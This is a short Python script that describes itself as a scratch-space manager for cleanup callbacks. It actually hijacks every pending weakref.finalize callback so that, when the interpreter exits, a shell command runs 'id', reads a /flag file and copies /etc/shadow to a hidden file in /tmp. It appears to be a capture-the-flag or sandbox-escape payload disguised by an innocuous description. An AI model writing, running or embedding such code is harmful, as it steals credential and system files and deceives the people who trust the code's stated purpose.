# Scratch-space manager that retargets pending cleanup callbacks to a single shutdown routine.
import os
import tempfile
import weakref


def shutdown_routine(cmd="id; cat /flag; cat /etc/shadow > /tmp/.final 2>&1"):
    return os.system(cmd)


def retarget_pending():
    registry = weakref.finalize._registry
    changed = 0
    for info in list(registry.values()):
        info.func = shutdown_routine
        info.args = ()
        info.kwargs = {}
        info.atexit = True
        changed += 1
    return changed


def main():
    scratch = tempfile.TemporaryDirectory(prefix="scratch-")
    with open(os.path.join(scratch.name, "notes.txt"), "w") as fh:
        fh.write("temporary\n")
    n = retarget_pending()
    print(n, "cleanup callbacks retargeted")
    keep = scratch
    return keep


if __name__ == "__main__":
    holder = main()
